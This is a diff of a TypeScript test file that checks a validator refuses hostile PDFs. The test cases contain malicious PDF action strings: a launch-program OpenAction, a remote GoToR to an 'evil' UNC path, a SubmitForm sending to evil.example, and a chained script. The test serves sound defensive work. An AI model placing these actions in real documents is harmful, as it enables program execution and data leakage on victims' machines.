@@ -9,7 +9,7 @@ const link = (action: string) => `/Annots[<</Subtype/Link/Rect[0 0 9 9]/A${actio
 describe('a PDF is refused', () => {
   test.each<[string, Uint8Array]>([
     ['launches a program when it is opened', aPdf({ catalogue: `/OpenAction${LAUNCH}` })],
-    ['launches one, and says so in a packed stream', aPackedPdf({ catalogue: `/OpenAction${LAUNCH}` })], // prettier-ignore
+    ['launches one, and says so in a packed stream', aPackedPdf({ catalogue: `/OpenAction${LAUNCH}` })],
     ['opens a file on another machine', aPdf({ catalogue: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)/D[0/Fit]>>' })],
     ['sends a form when it is opened', aPdf({ catalogue: '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' })],
     ['runs a script after it was opened at a page', aPdf({ catalogue: `/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${SCRIPT}>>` })],
